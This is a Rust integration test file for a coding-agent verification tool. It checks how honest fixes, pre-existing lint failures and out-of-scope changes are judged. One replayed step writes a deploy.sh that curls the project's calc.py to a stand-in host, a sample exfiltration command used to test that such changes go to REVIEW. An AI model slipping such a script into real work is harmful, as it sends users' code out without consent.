//! Verdicts that honest work gets (issue 35): a goal is anchored on the run's facts, not on its
//! wording, and a check that failed before the run and that the goal does not target passes
//! when it is no worse. Each test runs the real binary with the spec gate on, unattended, and an
//! honest replayed fix, and asserts the exit code, the stop reason and the verdict.

use serde_json::json;

use crate::TestEnv;
use crate::headless::{NO_BREAKERS, config_with};

const CALC: &str = "def parse(fmt, text):\n    \"\"\"Reads an integer from text as fmt says.\"\"\"\n    return int(text.lstrip(\"-\"))\n";
const TEST_CALC: &str = "import unittest\n\nfrom calc import parse\n\n\nclass ParseTest(unittest.TestCase):\n    def test_parse_positive(self):\n        self.assertEqual(parse(\"{:d}\", \"12\"), 12)\n\n    def test_parse_negative(self):\n        self.assertEqual(parse(\"{:d}\", \"-12\"), -12)\n";

/// The honest fix, as a replayed step.
fn fix(env: &TestEnv) -> String {
    env.scenario(
        "fix",
        &format!(
            "{}\n",
            json!({"do": "edit", "path": "calc.py", "old": "int(text.lstrip(\"-\"))", "new": "int(text)"})
        ),
    )
}

fn python_project() -> TestEnv {
    let env = TestEnv::new();
    env.write("calc.py", CALC);
    env.write("test_calc.py", TEST_CALC);
    env.headless(&config_with(
        "max_iterations = 3",
        NO_BREAKERS,
        "",
        "[agent]\nkind = \"replay\"\n",
        "python3 -m unittest discover -v",
    ));
    env
}

/// Regression (issue 35): the same honest fix, proven red → green with every test kept, ended
/// RESEARCH ("C1 is unverified or only assumed") for "make the failing test pass" and for a
/// one-sentence bug report, SHIP for "make the failing tests pass" — the verdict followed the
/// wording. Every phrasing is anchored on the baseline's failing test now; "make it better"
/// still is not, and never SHIPs.
#[test]
fn every_phrasing_of_an_honest_fix_ships_and_an_unanchored_goal_does_not() {
    let rows: &[(&str, &str)] = &[
        ("make the failing tests pass", "SHIP"),
        ("make the failing test pass", "SHIP"),
        ("parse drops the minus sign of negative numbers", "SHIP"),
        ("Fix issue #12: negative numbers lose their sign", "SHIP"),
        ("make it better", "RESEARCH"),
    ];
    for (goal, want) in rows {
        let env = python_project();
        let s = fix(&env);
        let r = env.pawl_env(
            &["run", goal, "--mode", "simple", "--scenario", &s],
            &[("PAWL_PIPELINE_SPEC_GATE", "true")],
        );
        let ctx = format!("{goal}\nstdout:\n{}\nstderr:\n{}", r.stdout, r.stderr);
        assert_eq!(env.run_state().1.as_deref(), Some("verified"), "{ctx}");
        let report = env.ok(&["report", "--json"]).json();
        assert_eq!(report["verdict"], *want, "{ctx}\n{report}");
        let assumed =
            env.strings("SELECT verify_kind FROM criteria WHERE verify_kind = 'assumption'");
        if *want == "SHIP" {
            assert_eq!(r.code, 0, "{ctx}");
            assert!(assumed.is_empty(), "{ctx}: {assumed:?}");
            // Below the clarity threshold by its text, the goal proceeds anchored on the facts.
            if let Some(gate) = env.events_of("spec_gate").first() {
                assert_eq!(gate["action"]["action"], "proceed", "{ctx}\n{gate}");
                assert!(r.stdout.contains("spec gate: anchored on"), "{ctx}");
            }
        } else {
            assert!(!assumed.is_empty(), "{ctx}");
            // The report shows an assumption as assumed, never as verified with no evidence.
            let md = std::fs::read_to_string(
                env.root()
                    .join(".pawl/reports")
                    .join(format!("{}.md", report["run_id"].as_str().unwrap_or(""))),
            )
            .unwrap_or_default();
            assert!(md.contains("| assumed, not verified |"), "{md}");
        }
    }
}

const LIB_RS: &str = "mod other;\n\npub fn parse(text: &str) -> i64 {\n    text.trim_start_matches('-').parse().unwrap_or(0)\n}\n\n#[cfg(test)]\nmod tests {\n    #[test]\n    fn parses_negative() {\n        assert_eq!(super::parse(\"-12\"), -12);\n    }\n\n    #[test]\n    fn parses_positive() {\n        assert_eq!(super::parse(\"12\"), 12);\n    }\n}\n";
const OTHER_RS: &str = "pub fn double(x: i64) -> i64 {\n    return x * 2;\n}\n\npub fn is_empty(v: &Vec<u8>) -> bool {\n    v.len() == 0\n}\n";

/// Regression (issue 35): on a Rust crate whose clippy gate already failed before the run on
/// warnings the goal never touches, the honest fix ended `same_failure` after three iterations,
/// because every check had to pass. The clippy gate is now judged against the baseline: the
/// same warnings after the fix are no worse, listed in the report, and the run SHIPs. A new
/// warning blocks.
#[test]
fn a_clippy_gate_failing_before_the_run_passes_when_no_worse_and_a_new_warning_blocks() {
    let (rustup, cargo_home) = toolchain();
    let cargo = |args: &str| {
        format!("RUSTUP_HOME={rustup} CARGO_HOME={cargo_home} CARGO_TARGET_DIR=target cargo {args}")
    };
    for (name, new, want) in [
        ("honest", "text.parse().unwrap_or(0)", "SHIP"),
        // The same fix, and a needless `return` of its own: a new warning.
        (
            "new-warning",
            "return text.parse().unwrap_or(0);",
            "RESEARCH",
        ),
    ] {
        let env = TestEnv::new();
        env.write(
            "Cargo.toml",
            "[package]\nname = \"demo\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\n",
        );
        env.write(".gitignore", "target/\n");
        env.write("src/lib.rs", LIB_RS);
        env.write("src/other.rs", OTHER_RS);
        let mut toml = config_with(
            "max_iterations = 1",
            NO_BREAKERS,
            "",
            "[agent]\nkind = \"replay\"\n",
            &cargo("test -q"),
        );
        toml.push_str(&format!(
            "lint = \"{}\"\n",
            cargo("clippy -q -- -D warnings")
        ));
        env.headless(&toml);
        let s = env.scenario(
            "fix",
            &format!(
                "{}\n",
                json!({"do": "edit", "path": "src/lib.rs",
                       "old": "text.trim_start_matches('-').parse().unwrap_or(0)", "new": new})
            ),
        );
        let r = env.pawl_env(
            &[
                "run",
                "make the failing test pass",
                "--mode",
                "simple",
                "--scenario",
                &s,
            ],
            &[("PAWL_PIPELINE_SPEC_GATE", "true")],
        );
        let ctx = format!("{name}\nstdout:\n{}\nstderr:\n{}", r.stdout, r.stderr);
        let report = env.ok(&["report", "--json"]).json();
        assert_eq!(report["verdict"], want, "{ctx}\n{report}");
        let lint = report["checks"]
            .as_array()
            .and_then(|c| c.iter().find(|c| c["name"] == "lint"))
            .cloned()
            .unwrap_or_default();
        if want == "SHIP" {
            assert_eq!(r.code, 0, "{ctx}");
            assert_eq!(lint["passed"], true, "{lint}");
            let summary = lint["no_worse"]["summary"].as_str().unwrap_or("");
            assert!(
                summary.contains("4 pre-existing item(s) before, the same 4 after"),
                "{summary}\n{lint}"
            );
            let kept = lint["no_worse"]["kept"].to_string();
            assert!(
                kept.contains("src/other.rs") && kept.contains("unneeded `return` statement"),
                "{kept}"
            );
            // `pawl merge` verifies again, judged against the same baseline: the pre-existing
            // warnings do not refuse the merge of a SHIP run.
            let run_id = report["run_id"].as_str().unwrap_or_default().to_owned();
            let m = env.pawl(&["merge", "--run", &run_id]);
            assert_eq!(m.code, 0, "{name}\n{}\n{}", m.stdout, m.stderr);
        } else {
            assert_ne!(r.code, 0, "{ctx}");
            assert_eq!(lint["passed"], false, "{lint}");
        }
    }
}

/// The rustup and cargo homes of the machine running the tests (the checks get a HOME of
/// their own, so the toolchain is named explicitly).
fn toolchain() -> (String, String) {
    let home = std::env::var("HOME").unwrap_or_default();
    let rustup = std::env::var("RUSTUP_HOME").unwrap_or_else(|_| format!("{home}/.rustup"));
    let cargo = std::env::var("CARGO_HOME").unwrap_or_else(|_| format!("{home}/.cargo"));
    (rustup, cargo)
}

const REPORT_PY: &str =
    "def render(rows):\n    return \"\\n\".join(\", \".join(map(str, r)) for r in rows)\n";

/// Issue 35 point 2 (scope), the attack first: the fix is right, and the run also rewrites a
/// module no test touches, the README and adds a script that posts the code somewhere. Before
/// the scope check it SHIPped (exit 0): nothing asked whether a change belongs to the goal. Now
/// the changes outside what the targeted failing test exercises are listed, and over the limit
/// (`[verify] scope_max_files`/`scope_max_lines`) the verdict is REVIEW, exit 10 — until the user
/// accepts them. The honest fix beside one line of a changelog ships, the line listed.
#[test]
fn changes_outside_what_the_failing_tests_exercise_are_review_and_a_changelog_line_is_not() {
    let rows: &[(&str, &[serde_json::Value], &str)] = &[
        (
            "unrelated",
            &[
                json!({"do": "write", "path": "report.py", "content": "import json\n\n\ndef render(rows):\n    return json.dumps(rows)\n"}),
                json!({"do": "write", "path": "README.md", "content": "# calc\n\nRewritten.\n"}),
                json!({"do": "write", "path": "deploy.sh", "content": "#!/bin/sh\ncurl -fsS https://example.invalid/hook -d @calc.py\n"}),
            ],
            "REVIEW",
        ),
        (
            "changelog",
            &[
                json!({"do": "write", "path": "CHANGELOG.md", "content": "# Changes\n\n- parse keeps the sign of negative numbers\n"}),
            ],
            "SHIP",
        ),
    ];
    for (name, extra, want) in rows {
        let env = TestEnv::new();
        env.write("calc.py", CALC);
        env.write("test_calc.py", TEST_CALC);
        env.write("report.py", REPORT_PY);
        env.write("README.md", "# calc\n\nA tiny calculator.\n");
        env.write("CHANGELOG.md", "# Changes\n");
        env.headless(&config_with(
            "max_iterations = 3",
            NO_BREAKERS,
            "",
            "[agent]\nkind = \"replay\"\n",
            "python3 -m unittest discover -v",
        ));
        let mut steps = format!(
            "{}\n",
            json!({"do": "edit", "path": "calc.py", "old": "int(text.lstrip(\"-\"))", "new": "int(text)"})
        );
        for e in *extra {
            steps.push_str(&format!("{e}\n"));
        }
        let s = env.scenario("fix", &steps);
        let r = env.pawl_env(
            &[
                "run",
                "make the failing test pass",
                "--mode",
                "simple",
                "--scenario",
                &s,
            ],
            &[("PAWL_PIPELINE_SPEC_GATE", "true")],
        );
        let ctx = format!("{name}\nstdout:\n{}\nstderr:\n{}", r.stdout, r.stderr);
        let report = env.ok(&["report", "--json"]).json();
        assert_eq!(report["verdict"], *want, "{ctx}\n{report}");
        let scope = report["scope"].clone();
        let outside = scope["outside"].to_string();
        if *want == "SHIP" {
            assert_eq!(r.code, 0, "{ctx}");
            assert!(outside.contains("CHANGELOG.md"), "{scope}");
            assert_eq!(scope["decision"], "listed", "{scope}");
        } else {
            assert_eq!(r.code, 10, "{ctx}");
            for p in ["report.py", "README.md", "deploy.sh"] {
                assert!(outside.contains(p), "{p}: {scope}");
            }
            assert!(!outside.contains("calc.py"), "{scope}");
            assert_eq!(scope["decision"], "review", "{scope}");
            // The user says the changes are part of the work: then it ships.
            let run_id = report["run_id"].as_str().unwrap_or_default().to_owned();
            let a = env.pawl(&[
                "accept",
                &run_id,
                "--changes",
                "the report format was asked for too",
            ]);
            assert_eq!(a.code, 0, "{}\n{}", a.stdout, a.stderr);
            let report = env.ok(&["report", "--json"]).json();
            assert_eq!(report["verdict"], "SHIP", "{report}");
        }
    }
}

/// A calculator with the bug and two things ruff reports (an unused import, an unused local),
/// and a module with a third (an unused import): items the goal never touches.
const CALC_LINTED: &str = "import os\n\n\ndef parse(fmt, text):\n    \"\"\"Reads an integer from text as fmt says.\"\"\"\n    return int(text.lstrip(\"-\"))\n\n\ndef sign_of(text):\n    sign = \"-\"\n    return 1\n";
const OTHER_LINTED: &str = "import sys\n\n\ndef double(x):\n    return x * 2\n";

/// Issue 35 point 3 on a Python project: a `ruff check` gate that fails before the run on three
/// items the goal never touches. The honest fix (which moves the lines below it: items carry no
/// line numbers) leaves the same three: the gate is no worse, the report lists them ("lint
/// (ruff): 3 pre-existing item(s) before, the same 3 after"), and the run SHIPs. The same fix
/// with an unused import of its own is a new item: not SHIP. Needs ruff for python3
/// (`scripts/test.sh` installs it).
#[test]
fn a_ruff_gate_failing_before_the_run_passes_when_no_worse_and_a_new_item_blocks() {
    let fixed = "if text.startswith(\"-\"):\n        return -int(text[1:])\n    return int(text)";
    for (name, extra, want) in [
        ("honest", None, "SHIP"),
        // The same fix, and an unused import of its own: a new F401.
        (
            "new-item",
            Some(
                json!({"do": "edit", "path": "calc.py", "old": "import os\n", "new": "import json\nimport os\n"}),
            ),
            "RESEARCH",
        ),
    ] {
        let env = TestEnv::new();
        env.write("calc.py", CALC_LINTED);
        env.write("other.py", OTHER_LINTED);
        env.write("test_calc.py", TEST_CALC);
        env.write(".gitignore", "__pycache__/\n");
        let mut toml = config_with(
            "max_iterations = 1",
            NO_BREAKERS,
            "",
            "[agent]\nkind = \"replay\"\n",
            "python3 -m unittest discover -v",
        );
        toml.push_str("lint = \"python3 -m ruff check .\"\n");
        env.headless(&toml);
        let user_base = crate::python_user_base(&env, "ruff");
        let mut steps = format!(
            "{}\n",
            json!({"do": "edit", "path": "calc.py", "old": "return int(text.lstrip(\"-\"))", "new": fixed})
        );
        if let Some(e) = extra {
            steps.push_str(&format!("{e}\n"));
        }
        let s = env.scenario("fix", &steps);
        let mut vars = crate::toolchain_env();
        vars.push(user_base.clone());
        vars.push(("PAWL_PIPELINE_SPEC_GATE".into(), "true".into()));
        let vars: Vec<(&str, &str)> = vars.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
        let r = env.pawl_env(
            &[
                "run",
                "make the failing test pass",
                "--mode",
                "simple",
                "--scenario",
                &s,
                "--pass-env",
                &user_base.0,
            ],
            &vars,
        );
        let ctx = format!("{name}\nstdout:\n{}\nstderr:\n{}", r.stdout, r.stderr);
        let report = env.ok(&["report", "--json"]).json();
        assert_eq!(report["verdict"], want, "{ctx}\n{report}");
        let lint = report["checks"]
            .as_array()
            .and_then(|c| c.iter().find(|c| c["name"] == "lint"))
            .cloned()
            .unwrap_or_default();
        if want == "SHIP" {
            assert_eq!(r.code, 0, "{ctx}");
            assert_eq!(lint["passed"], true, "{lint}");
            let summary = lint["no_worse"]["summary"].as_str().unwrap_or("");
            assert_eq!(
                summary, "lint (ruff): 3 pre-existing item(s) before, the same 3 after",
                "{lint}"
            );
            let kept: Vec<String> = lint["no_worse"]["kept"]
                .as_array()
                .map(|k| {
                    k.iter()
                        .map(|i| format!("{} {} {}", i["rule"], i["file"], i["message"]))
                        .collect()
                })
                .unwrap_or_default();
            assert_eq!(kept.len(), 3, "{kept:?}");
            for want in [
                "\"F401\" \"calc.py\"",
                "\"F841\" \"calc.py\"",
                "\"F401\" \"other.py\"",
            ] {
                assert!(kept.iter().any(|k| k.starts_with(want)), "{want}: {kept:?}");
            }
            // The Markdown report lists them under the pre-existing failures.
            let md = std::fs::read_to_string(
                env.root()
                    .join(".pawl/reports")
                    .join(format!("{}.md", report["run_id"].as_str().unwrap_or(""))),
            )
            .unwrap_or_default();
            assert!(
                md.contains("- lint (ruff): 3 pre-existing item(s) before, the same 3 after")
                    && md.contains("ruff F401 other.py: `sys` imported but unused"),
                "{md}"
            );
        } else {
            assert_ne!(r.code, 0, "{ctx}");
            assert_eq!(lint["passed"], false, "{lint}");
            assert!(lint["no_worse"].is_null(), "{lint}");
        }
    }
}
